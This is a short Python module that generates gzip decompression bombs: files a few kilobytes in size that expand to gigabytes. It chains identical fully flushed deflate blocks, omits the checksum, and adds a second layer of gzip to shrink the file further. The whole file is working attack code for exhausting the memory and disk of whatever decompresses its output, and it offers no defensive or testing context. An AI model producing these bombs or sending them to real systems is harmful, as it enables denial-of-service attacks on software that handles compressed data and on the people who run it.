"""Gzip files that are a thousand times larger when they are decompressed."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

MIB = 1024 * 1024
_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
_END = b"\x03\x00"
"""Last block of the compressed data, which is empty."""


def gzip_bomb(head: bytes, mebibytes: int, *, filler: bytes = b" ") -> Iterator[bytes]:
    """Yield the parts of a gzip file: `head`, then `filler` up to this size, without a checksum.

    A part is a thousandth of one MiB, and no part of the decompressed content is larger than that in memory.
    """
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield _HEADER + squeeze.compress(head) + squeeze.flush(zlib.Z_FULL_FLUSH)
    # Blocks after a full flush do not depend on earlier ones, so copies can be concatenated.
    block = squeeze.compress(filler * (MIB // len(filler))) + squeeze.flush(zlib.Z_FULL_FLUSH)
    for _ in range(mebibytes):
        yield block
    yield _END


def compress_again(parts: Iterator[bytes]) -> bytes:
    """Return a file as gzip; 5 MB that are 5 GB when they are decompressed become 15 kB."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return b"".join([*map(squeeze.compress, parts), squeeze.flush()])
